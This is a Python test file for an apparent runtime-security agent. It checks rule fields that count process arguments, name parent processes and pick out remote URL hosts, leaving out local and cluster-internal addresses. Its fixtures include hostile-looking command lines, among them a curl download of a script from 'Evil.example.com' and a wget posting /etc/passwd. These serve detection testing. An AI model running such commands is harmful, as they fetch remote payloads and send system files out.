"""Rule-only fields derived from what an event carries: proc.argc, proc.pcomm and
proc.ancestors.comm, proc.remote_hosts."""
from types import SimpleNamespace

import pytest

from agent.fields import REGISTRY


def _get(name, args=(), ancestors=()):
    return REGISTRY[name].get(SimpleNamespace(args=tuple(args), ancestors=tuple(ancestors)))


def test_argc_counts_argv0():
    assert (_get("proc.argc", ["sh"]), _get("proc.argc", ["sh", "-c", "id"]),
            _get("proc.argc", [])) == (1, 3, 0)


def test_the_parents_name_is_what_proc_name_was_for_it():
    anc = [(7, "/bin/busybox", "b:1:7", "awk"), (1, "/bin/busybox", "b:1:1", "sh")]
    assert _get("proc.pcomm", ancestors=anc) == "awk"
    assert _get("proc.ancestors.comm", ancestors=anc) == ("awk", "sh")
    assert _get("proc.pname", ancestors=anc) == "busybox"
    assert _get("proc.pcomm") is None


@pytest.mark.parametrize("args, hosts", [
    (["curl", "-fsS", "http://127.0.0.1:8080/healthz"], ()),
    (["wget", "-qO-", "http://localhost/"], ()),
    (["curl", "http://[::1]:80/", "http://backend:8080/", "http://api.shop.svc/x",
      "https://kubernetes.default.svc.cluster.local/api"], ()),
    (["curl", "-o", "/tmp/x", "https://Evil.example.com/x.sh"], ("evil.example.com",)),
    (["curl", "http://localhost/", "http://user:pw@203.0.113.9:8/x"], ("203.0.113.9",)),
    (["wget", "198.51.100.7"], ("198.51.100.7",)),
    (["curl", "files.example.org/a", "files.example.org:8443"], ("files.example.org",)),
    (["wget", "-O", "index.html", "x.tar.gz", "./a.b/c", "-", "--post-file=/etc/passwd"], ()),
    (["curl", "http://[2001:db8::1]/x"], ("2001:db8::1",)),
])
def test_remote_hosts_are_the_url_hosts_outside_the_pod_and_cluster(args, hosts):
    assert _get("proc.remote_hosts", args) == hosts


def test_remote_hosts_ignores_argv0():
    assert _get("proc.remote_hosts", ["http://evil.example.com/"]) == ()
